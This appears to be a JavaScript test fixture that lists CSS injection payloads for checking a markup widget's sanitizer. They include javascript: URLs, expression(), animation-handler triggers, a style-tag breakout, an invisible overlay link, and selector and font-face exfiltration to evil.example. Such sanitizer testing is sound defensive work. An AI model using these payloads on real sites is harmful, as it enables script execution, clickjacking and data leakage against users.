/**
 * CSS injection: style sheets and style attributes that run script (old engines), load from the
 * attacker (tracking, exfiltration through selectors), fire animation handlers, or
 * restyle the widget: an invisible link over the page, a comment dressed as the widget's own markup.
 */
import { attacks } from './trap.js';

export const CSS_INJECTION = attacks({
  'style-url': (run) => `<strong style="background:url(javascript:${run})">styled</strong>`,
  'style-import': (run) => `<style>@import 'javascript:${run}';</style>`,
  'style-expression': (run) => `<b style="width:expression(${run})">expression</b>`,
  'style-tag-url': (run) => `<style>*{background:url("javascript:${run}")}</style>`,
  'style-close-in-string': (run) => `<style>b{content:"</style><img src=x onerror=${run}>"}</style>`,
  'style-animation': (run) => `<style>@keyframes lar{}</style><b style="animation:lar 1ms" onanimationstart="${run}">animated</b>`,
  'style-animation-end': (run) =>
    `<style>@keyframes lar-end{to{color:red}}</style><b style="animation:lar-end 1ms 2" onanimationiteration="${run}" onanimationend="${run}">twice</b>`,
  'style-host': () => `<style>:host{display:none!important}</style>hidden widget`,
  'style-overlay': () =>
    `<a href="https://evil.example/" style="position:fixed;inset:0;z-index:2147483647;opacity:0" title="click anywhere">overlay</a>`,
  'style-font-face-leak': () => `<style>@font-face{font-family:x;src:url(https://evil.example/font)}b{font-family:x}</style>`,
  'style-selector-exfil': () => `<style>[data-id^="a"]{background:url(https://evil.example/a)}</style>`,
  'style-escaped-url': (run) => `<b style="background:u\\72 l(javascript:${run})">escaped</b>`,
  'style-entity-property': (run) => `<b style="&#98;ackground:url(javascript:${run})">entity</b>`,
  'style-comment-url': (run) => `<b style="background:url(/**/javascript:${run})">comment</b>`,
  'style-moz-binding': () => `<b style="-moz-binding:url(https://evil.example/xbl#x)">binding</b>`,
  'style-behavior': () => `<b style="behavior:url(https://evil.example/x.htc)">behavior</b>`,
  link: (run) => `<link rel=stylesheet href="javascript:${run}">`,
  'svg-style-import': () => `<svg><style>@import "https://evil.example/x.css";</style></svg>`,
  'class-spoof': () => `<b class="author">The site owner</b> <span class="pending visually-hidden">says</span>`,
  'part-spoof': () => `<a href="https://example.com/" part="author-link content">part</a>`,
});
